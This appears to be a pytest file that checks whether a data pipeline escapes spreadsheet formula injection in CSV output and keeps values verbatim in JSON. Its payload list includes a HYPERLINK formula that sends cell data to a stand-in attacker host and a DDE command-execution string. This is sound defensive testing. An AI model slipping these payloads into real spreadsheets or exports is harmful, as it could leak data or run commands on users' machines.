"""Spreadsheet formula injection: neutralized in CSV outputs, verbatim in JSON outputs.

``validated/`` is a CSV that people open in spreadsheets. A cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is read as a formula there, so it is written
with a leading single quote (the OWASP rule); a cell that already starts with a quote gets
one more, so the rule is exactly reversible. The transformer takes exactly one quote off
again: ``processed/``, ``enriched/`` and ``rejected/`` (JSON) hold the values as sent.
"""

from __future__ import annotations

import csv
import io

import pytest

from .chain import run_chain

HEADER = "transaction_id,account_id,timestamp,amount,currency,transaction_type,merchant,category"
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=tab first",
    "\r=carriage return first",
    "'=already quoted",
    "'",
    "''",
    "plain = not first",
]


def _file(rows: list[tuple[str, str, str]]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")  # quotes cells holding CR or LF
    writer.writerow(HEADER.split(","))
    for number, (tx, merchant, category) in enumerate(rows, start=1):
        writer.writerow(
            [tx, "ACC1", "2024-03-01T10:00:00Z", f"{number}.00", "USD", "DEBIT", merchant, category]
        )
    return out.getvalue().encode()


def _cells(validated: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(validated.decode(), newline="")))[1:]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_output_neutralizes_formulas_and_json_keeps_them_verbatim(payload):
    outcome = run_chain(_file([(f"TX-{len(payload)}", payload, payload)]))
    assert outcome.status == "SUCCEEDED", outcome.message
    (row,) = _cells(outcome.validated)
    merchant, category = row[6], row[7]
    if payload[:1] in ("=", "+", "-", "@", "\t", "\r", "'"):
        assert merchant == category == "'" + payload
    else:
        assert merchant == category == payload
    (record,) = outcome.records()
    assert record["merchant"] == record["category"] == payload


def test_identifiers_that_may_start_with_a_dash_are_neutralized_too():
    outcome = run_chain(_file([("-TX-1", "Shop", "retail"), ("TX-2", "Shop", "retail")]))
    assert outcome.status == "SUCCEEDED", outcome.message
    assert [row[0] for row in _cells(outcome.validated)] == ["'-TX-1", "TX-2"]
    assert [r["transaction_id"] for r in outcome.records()] == ["-TX-1", "TX-2"]


def test_rejected_rows_keep_formulas_verbatim_in_json():
    rows = [(f"TX-{n}", "Shop", "retail") for n in range(1, 40)]
    rows.append(("TX 40", "=1+1", "@x"))  # rejected: the id has a space
    outcome = run_chain(_file(rows))
    assert outcome.status == "SUCCEEDED"
    (reject,) = outcome.rejects
    assert reject["code"] == "INVALID_FORMAT"
    assert reject["fields"]["merchant"] == "=1+1" and reject["fields"]["category"] == "@x"
